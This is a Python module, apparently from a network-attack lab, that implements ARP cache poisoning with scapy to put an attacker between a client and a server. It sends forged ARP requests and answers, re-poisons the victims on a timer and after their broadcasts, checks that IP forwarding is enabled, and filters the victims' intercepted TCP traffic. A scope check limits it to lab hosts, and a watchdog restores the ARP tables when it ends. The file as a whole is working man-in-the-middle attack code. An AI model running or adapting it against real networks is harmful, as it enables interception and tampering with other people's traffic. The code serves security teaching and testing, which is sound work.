"""The position on a LAN: the attacker claims each victim's IP address by ARP.

ARP (RFC 826) has no authentication. The attacker sends each victim, and no other host, requests in the other victim's
name. Linux takes the sender's address from a request at once and unconditionally, and creates a missing entry; but for
a second after a change it ignores unsolicited answers. The victims' packets then go to the attacker, and its kernel
forwards them.

Whatever ends the attacker, both ARP tables are repaired. If the whole container is killed at once, no process is left
to repair them. Victims with open connections then recovered after 25 to 55 s (Linux 6.18, unreachability detection as
in RFC 4861).
"""

import asyncio
from pathlib import Path
from types import TracebackType
from typing import Any, Self

from scapy.config import conf
from scapy.layers.l2 import ARP, Ether

from attacker import scope
from attacker.errors import AttackerError
from attacker.position.watchdog import Watchdog, heal

FIND_SECONDS = 30.0
_ASK_EVERY_SECONDS = 0.5
_FIRST_INTERVALS_SECONDS = (0.1,) * 5 + (0.25,) * 8
_INTERVAL_SECONDS = 1.0
# After a victim's broadcast: at once, and again after the true answers.
_AGAIN_SECONDS = (0.0, 0.05, 0.25)
_ETHERTYPE_ARP = 0x0806
_BROADCAST = "ff:ff:ff:ff:ff:ff"
_UNKNOWN_MAC = "00:00:00:00:00:00"
_WHO_HAS, _IS_AT = 1, 2
_SYSCTLS = Path("/proc/sys/net/ipv4")


class ArpPosition:
    """Between `client` and `server` for as long as the context lasts; both ARP tables are repaired when it ends.

    Entering takes until both hosts have answered, at most `find_seconds`. AttackerError if they do not, or if this
    machine does not forward packets; OutOfScope for hosts outside the lab. Needs only CAP_NET_RAW.
    """

    def __init__(self, watchdog: Watchdog, client: str, server: str, *, find_seconds: float = FIND_SECONDS) -> None:
        first, second = scope.check_victim(client), scope.check_victim(server)
        if first.host == second.host:
            raise AttackerError(f"{client} and {server} must be two hosts")
        self._victims = {str(one.host.ip): one.host for one in (first, second)}
        self.client, self.server = self._victims
        self._peers = {self.client: self.server, self.server: self.client}
        self._watchdog = watchdog
        self._find_seconds = find_seconds
        interface = first.interface
        assert interface.address
        self.interface, self._own_mac, self.own_ip = interface.name, interface.mac, str(interface.address.ip)
        self._macs: dict[str, str] = {}
        self._poisoning = False
        self._link: Any = None
        self.healed: tuple[str, ...] = ()

    async def __aenter__(self) -> Self:
        _check_forwarding()
        self._loop = asyncio.get_running_loop()
        self._lost: asyncio.Future[str] = self._loop.create_future()
        self._found = asyncio.Event()
        self._link = _open_link(self.interface)
        self._loop.add_reader(self._link.ins, self._receive)
        self._loop.add_reader(self._watchdog, self._lose, "the watchdog has ended")
        try:
            await self._find()
            self._entrust()
            self._poisoning = True
            self._poison()
        except BaseException:
            self._leave()
            raise
        self._repeating = asyncio.create_task(self._repeat())
        return self

    async def __aexit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._repeating.cancel()
        self._leave()

    async def hold(self, stop: asyncio.Event) -> None:
        """Waits until `stop` is set; AttackerError when the position is lost."""
        stopped = asyncio.create_task(stop.wait())
        try:
            await asyncio.wait((stopped, self._lost), return_when=asyncio.FIRST_COMPLETED)
        finally:
            stopped.cancel()
        if self._lost.done():
            raise AttackerError(self._lost.result())

    def bpf_filter(self) -> str:
        """A filter for the victims' TCP packets to each other on arrival, not when they leave (pcap-filter(7))."""
        return f"tcp and host {self.client} and host {self.server} and ether dst {self._own_mac}"

    def describe(self) -> tuple[str, ...]:
        """A line for each victim, `10.0.0.2 sends packets for 10.0.0.3 to 02:42:0a:00:00:09`, and one if ICMP redirects
        reveal the attacker."""
        lines = tuple(f"{victim} sends packets for {peer} to {self._own_mac}" for victim, peer in self._peers.items())
        redirects = _redirects(self.interface)
        return (*lines, redirects) if redirects else lines

    async def _find(self) -> None:
        """Asks both hosts, and no other one, whether they are where they say, until both have answered."""
        try:
            async with asyncio.timeout(self._find_seconds):
                while not self._found.is_set():
                    for host in self._peers.keys() - self._macs.keys():
                        own = self._own_mac, self.own_ip
                        self._send(_arp(self._own_mac, self._victims[host].mac, _WHO_HAS, own, (_UNKNOWN_MAC, host)))
                    try:
                        await asyncio.wait_for(self._found.wait(), _ASK_EVERY_SECONDS)
                    except TimeoutError:
                        continue
        except TimeoutError:
            silent = " and ".join(sorted(self._peers.keys() - self._macs.keys()))
            raise AttackerError(
                f"{silent} did not answer on {self.interface} within {self._find_seconds:g} s: is the host running?"
            ) from None

    def _receive(self) -> None:
        """One ARP packet: an expected answer, a victim that checks its peer, or a victim with a new address."""
        try:
            packet = self._link.recv()
        except OSError as error:
            self._lose(f"{self.interface}: {error.strerror}")
            return
        if packet is None or ARP not in packet or packet[ARP].psrc not in self._peers:
            return
        arp, victim = packet[ARP], str(packet[ARP].psrc)
        if arp.hwsrc in (self._own_mac, _UNKNOWN_MAC) or packet.src != arp.hwsrc:
            return
        self._learn(victim, str(arp.hwsrc))
        if not self._poisoning:
            return
        if packet.dst == _BROADCAST:
            # All hosts now know the victim's true address, and it may get a true answer.
            for seconds in _AGAIN_SECONDS:
                self._loop.call_later(seconds, self._poison)
        elif arp.op == _WHO_HAS and arp.pdst == self._peers[victim]:
            self._send(self._claim(victim, _IS_AT))

    def _learn(self, victim: str, mac: str) -> None:
        """Stores a MAC address if it is the victim's own word; a restarted host may have a new one."""
        if self._macs.get(victim) == mac or not self._is_hers(victim, mac):
            return
        self._macs[victim] = mac
        if len(self._macs) == len(self._peers):
            self._found.set()
        if self._poisoning:
            try:
                self._entrust()
            except AttackerError as error:
                self._lose(str(error))

    def _is_hers(self, victim: str, mac: str) -> bool:
        if self._victims[victim].mac != mac:
            try:
                self._victims[victim] = scope.check_victim(victim).host
            except scope.OutOfScope:
                return False
        return self._victims[victim].mac == mac

    def _entrust(self) -> None:
        self._watchdog.entrust(self.interface, self._remedies(), of=self)

    def _claim(self, victim: str, operation: int) -> Any:
        """The packet that tells `victim` that its peer is at the attacker's MAC address."""
        return _arp(
            self._own_mac,
            self._macs[victim],
            operation,
            (self._own_mac, self._peers[victim]),
            (self._macs[victim] if operation == _IS_AT else _UNKNOWN_MAC, victim),
        )

    def _remedies(self) -> tuple[bytes, ...]:
        """The packets that tell each victim its peer's true MAC address.

        The Ethernet source is the attacker's own address: with the peer's, the bridge would learn that the peer is at
        the attacker's port.
        """
        return tuple(
            bytes(_arp(self._own_mac, self._macs[victim], operation, (self._macs[peer], peer), (target, victim)))
            for victim, peer in self._peers.items()
            for operation, target in ((_WHO_HAS, _UNKNOWN_MAC), (_IS_AT, self._macs[victim]))
        )

    def _poison(self) -> None:
        if self._poisoning:
            for victim in self._peers:
                self._send(self._claim(victim, _WHO_HAS))

    async def _repeat(self) -> None:
        for seconds in _FIRST_INTERVALS_SECONDS:
            await asyncio.sleep(seconds)
            self._poison()
        while True:
            await asyncio.sleep(_INTERVAL_SECONDS)
            self._poison()

    def _send(self, packet: Any) -> None:
        try:
            self._link.send(packet)
        except OSError as error:
            self._lose(f"{self.interface}: {error.strerror}")

    def _lose(self, reason: str) -> None:
        self._loop.remove_reader(self._watchdog)
        if not self._lost.done():
            self._lost.set_result(f"the position between {' and '.join(self._peers)} is lost: {reason}")

    def _leave(self) -> None:
        """Repairs the tables, without anything that could be cancelled, and tells the watchdog that it need not."""
        self._loop.remove_reader(self._link.ins)
        self._loop.remove_reader(self._watchdog)
        was_poisoning, self._poisoning = self._poisoning, False
        if was_poisoning and heal(self._remedies(), self._link.ins.send):
            self.healed = tuple(self._peers)
            try:
                self._watchdog.entrust(self.interface, (), of=self)
            except AttackerError:
                pass  # the watchdog has ended, and the tables are repaired
        self._link.close()


def _arp(source: str, destination: str, operation: int, sender: tuple[str, str], target: tuple[str, str]) -> Any:
    """An ARP packet; `sender` and `target` are a MAC and an IP address each, for its body."""
    return Ether(src=source, dst=destination) / ARP(
        op=operation, hwsrc=sender[0], psrc=sender[1], hwdst=target[0], pdst=target[1]
    )


def _open_link(interface: str) -> Any:
    """A socket for ARP only, by protocol number, so it needs no filter and no promiscuous interface."""
    try:
        return conf.L2socket(iface=interface, type=_ETHERTYPE_ARP, promisc=False)
    except PermissionError:
        raise AttackerError("the ARP position needs CAP_NET_RAW (compose: `cap_add: [NET_RAW]`)") from None
    except OSError as error:
        raise AttackerError(f"{interface}: {error.strerror}") from None


def _check_forwarding() -> None:
    """The kernel must forward the victims' packets."""
    if _sysctl("ip_forward") != "1":
        raise AttackerError(
            "this machine does not forward packets: the ARP position needs net.ipv4.ip_forward=1 (compose: `sysctls:`)"
        )


def _redirects(interface: str) -> str | None:
    """A warning if the kernel tells the victims the shorter way (RFC 1812 section 5.2.7.2); None if it does not."""
    on = [name for name in ("all", interface) if _sysctl(f"conf/{name}/send_redirects") != "0"]
    if not on:
        return None
    setting = f"net.ipv4.conf.{on[-1]}.send_redirects is on"
    return f"Mallory's kernel sends ICMP redirects ({setting}). They reveal her; Linux victims ignore them."


def _sysctl(name: str) -> str:
    return (_SYSCTLS / name).read_text().strip()
